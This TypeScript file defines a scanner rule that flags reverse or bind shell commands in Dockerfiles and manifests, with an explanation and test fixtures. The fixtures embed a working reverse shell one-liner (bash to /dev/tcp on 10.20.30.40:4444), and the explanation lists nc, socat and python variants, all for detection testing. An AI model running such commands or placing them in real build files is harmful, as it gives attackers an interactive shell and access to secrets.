import { categoryRule, fixturePrediction } from './kit';

const SAMPLE = 'bash -i >& /dev/tcp/10.20.30.40/4444 0>&1';

/** The model finds a command that looks like a reverse or bind shell. */
export const reverseShell = categoryRule(
  { category: 'reverse-shell', phrase: 'looks like a reverse or bind shell', attack: 'T1059.004' },
  {
    id: 'model/reverse-shell',
    title: 'Suspicious command: reverse shell',
    compliance: ['MITRE ATT&CK T1059.004 (Unix shell)', 'CWE-506'],
    fixable: false,
    explanation: {
      what: "A shell command the on-device model scores as a reverse or bind shell: an interactive shell wired to a network socket (`bash -i >& /dev/tcp/…`, `nc -e /bin/sh`, `socat exec:…`, `python -c 'socket…'`), whatever interpreter or encoding it hides behind.",
      why: 'A reverse shell gives whoever listens at the other end an interactive session inside the container, with its service-account token, mounted secrets and network position. In a Dockerfile it runs at build time on the build host; in a manifest it runs in the cluster.',
      fix: 'Remove the command. If it is a deliberate debugging aid, keep it out of images and manifests that ship, and mark it as expected with a reason so reviewers see it.',
    },
    fixtures: [
      { text: `FROM alpine:3.22\nRUN ${SAMPLE}\n`, expect: [SAMPLE.slice(0, 12)], predictions: { commands: fixturePrediction(SAMPLE, 'reverse-shell', '/dev/tcp/10.20.30.40/4444') } },
      { text: `FROM alpine:3.22\nRUN ${SAMPLE}\n`, expect: [], predictions: { commands: fixturePrediction(SAMPLE, 'reverse-shell', '/dev/tcp/10.20.30.40/4444', 0.3) }, note: 'below the threshold' },
      { text: `FROM alpine:3.22\nRUN ${SAMPLE}\n`, expect: [], note: 'no model predictions: rules only' },
    ],
  },
);
